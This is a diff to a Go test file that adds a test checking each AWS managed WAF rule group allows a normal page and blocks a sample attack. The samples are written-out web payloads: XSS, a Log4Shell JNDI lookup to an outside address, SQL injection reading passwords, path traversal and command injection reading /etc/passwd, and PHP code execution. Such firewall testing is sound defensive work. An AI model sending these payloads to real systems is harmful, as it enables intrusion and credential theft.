@@ -48,6 +48,30 @@ func TestManagedGroupsBlockAttacks(t *testing.T) {
 	}
 }
 
+// TestManagedGroupsAlone has each group that looks for attacks as the only one of a web ACL: the rules that are loaded depend on the groups.
+func TestManagedGroupsAlone(t *testing.T) {
+	attacks := map[string]*firewall.Request{
+		"AWSManagedRulesCommonRuleSet":          request("GET", "/products?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+		"AWSManagedRulesAdminProtectionRuleSet": request("GET", "/phpmyadmin/", ""),
+		"AWSManagedRulesKnownBadInputsRuleSet":  request("GET", "/products", "", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}"),
+		"AWSManagedRulesSQLiRuleSet":            request("GET", "/products?id=1+UNION+SELECT+password+FROM+users", ""),
+		"AWSManagedRulesLinuxRuleSet":           request("GET", "/products?file=../../../etc/passwd", ""),
+		"AWSManagedRulesUnixRuleSet":            request("GET", "/products?q=%3Bcat+/etc/passwd", ""),
+		"AWSManagedRulesPHPRuleSet":             request("GET", "/products?q=%3C?php+system('id')%3B?%3E", ""),
+	}
+	for _, group := range firewall.ManagedGroups() {
+		v := compile(t, acl(managed(1, group.Name))).Inspect(request("GET", "/products/42", ""))
+		if v.Action != "ALLOW" {
+			t.Errorf("%s: a page is answered with %s by %s", group.Name, v.Action, v.Inner)
+		}
+		if attack := attacks[group.Name]; attack != nil {
+			if v := compile(t, acl(managed(1, group.Name))).Inspect(attack); v.Action != "BLOCK" {
+				t.Errorf("%s: an attack is answered with %s", group.Name, v.Action)
+			}
+		}
+	}
+}
+
 func TestManagedGroupsLetTheShopPass(t *testing.T) {
 	i := compile(t, preset())
 	for _, r := range []*firewall.Request{
